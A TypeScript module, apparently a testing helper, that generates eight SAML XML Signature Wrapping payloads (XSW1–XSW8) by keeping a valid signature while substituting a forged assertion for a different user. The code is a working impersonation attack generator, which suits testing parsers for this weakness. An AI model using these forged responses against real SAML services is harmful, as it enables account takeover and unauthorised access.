const SIGNATURE = /<ds:Signature[\s\S]*?<\/ds:Signature>/;
const ASSERTION = /<saml:Assertion [\s\S]*<\/saml:Assertion>/;
const NAMESPACES =
  'xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"';

function part(expression: RegExp, xml: string): string {
  const [found] = expression.exec(xml) ?? [];
  if (found === undefined) throw new Error(`There is no ${expression}`);
  return found;
}

const withId = (xml: string, id: string) => xml.replace(/ ID="[^"]*"/, ` ID="${id}"`);

/**
 * Returns a response for each of eight ways to wrap a signature (XSW1 to XSW8 of Somorovsky et al., "On
 * Breaking SAML", 2012). The signed part stays in the response, but a careless parser reads another person.
 * @param assertionSigned a response with a signed assertion
 * @param messageSigned a response that is also signed as a whole
 */
export function wrapSignatures(
  { assertionSigned, messageSigned }: { assertionSigned: string; messageSigned: string },
  subject: { signed: string; forged: string },
): Record<string, string> {
  const forge = (xml: string) => withId(xml.replaceAll(subject.signed, subject.forged), '_forged');
  const original = part(ASSERTION, assertionSigned);
  const signature = part(SIGNATURE, original);
  const bare = original.replace(SIGNATURE, '');
  const forged = forge(bare);
  const replaced = (by: string) => assertionSigned.replace(original, () => by);

  const messageSignature = part(SIGNATURE, messageSigned);
  const bareMessage = messageSigned.replace(messageSignature, '');
  const forgedMessage = forge(bareMessage).replace(/<saml:Assertion [\s\S]*<\/saml:Assertion>/, () => forged);
  const inside = (element: string, content: string) =>
    element.replace('</ds:Signature>', () => `<ds:Object>${content}</ds:Object></ds:Signature>`);
  const afterIssuer = (xml: string, content: string) =>
    xml.replace('</saml:Issuer>', () => `</saml:Issuer>${content}`);

  return {
    XSW1: afterIssuer(forgedMessage, inside(messageSignature, bareMessage)),
    XSW2: afterIssuer(forgedMessage, `${messageSignature}${bareMessage}`),
    XSW3: replaced(forged + original),
    XSW4: replaced(forged.replace('</saml:Assertion>', () => `${original}</saml:Assertion>`)),
    XSW5: replaced(afterIssuer(forged, signature) + bare),
    XSW6: replaced(afterIssuer(forged, inside(signature, bare))),
    XSW7: replaced(`<samlp:Extensions ${NAMESPACES}>${forged}</samlp:Extensions>${original}`),
    XSW8: replaced(afterIssuer(forged, inside(signature, bare).replace('_forged', '_other'))),
  };
}
